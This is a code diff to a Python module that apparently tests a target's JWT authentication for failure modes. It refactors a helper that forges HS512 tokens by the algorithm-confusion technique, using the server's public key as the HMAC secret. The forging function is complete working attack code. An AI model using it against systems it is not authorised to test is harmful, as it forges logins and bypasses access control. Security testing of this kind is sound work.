@@ -16,6 +16,9 @@ expiry is read from its ``exp`` claim, since logins answer only ``{token}``.
 from __future__ import annotations
 
 import dataclasses
+import hashlib
+import hmac
+import json
 import time
 from typing import Any
 from urllib.parse import urlsplit
@@ -286,21 +289,13 @@ def failure_modes(target: Any) -> pd.DataFrame:
 
 
 def _hs512(payload: dict[str, Any], pem: str) -> str:
-    """The classic algorithm-confusion forgery: HMAC keyed with the public key's bytes.
+    """The classic algorithm-confusion forgery: HMAC-SHA512 keyed with the public key's bytes.
 
     Built by hand on purpose: PyJWT refuses to use a PEM public key as an HMAC secret.
     """
-    import base64
-    import hashlib
-    import hmac
-    import json
-
-    def b64(data: bytes) -> str:
-        return base64.urlsafe_b64encode(data).rstrip(b"=").decode()
-
-    signing_input = b64(b'{"alg":"HS512","typ":"JWT"}') + "." + b64(json.dumps(payload).encode())
-    signature = hmac.new(pem.encode(), signing_input.encode(), hashlib.sha512).digest()
-    return signing_input + "." + b64(signature)
+    encode = jwt.utils.base64url_encode
+    signing_input = encode(b'{"alg":"HS512","typ":"JWT"}') + b"." + encode(json.dumps(payload).encode())
+    return (signing_input + b"." + encode(hmac.new(pem.encode(), signing_input, hashlib.sha512).digest())).decode()
 
 
 def _row(case: str, answer: requests.Response) -> dict[str, Any]:
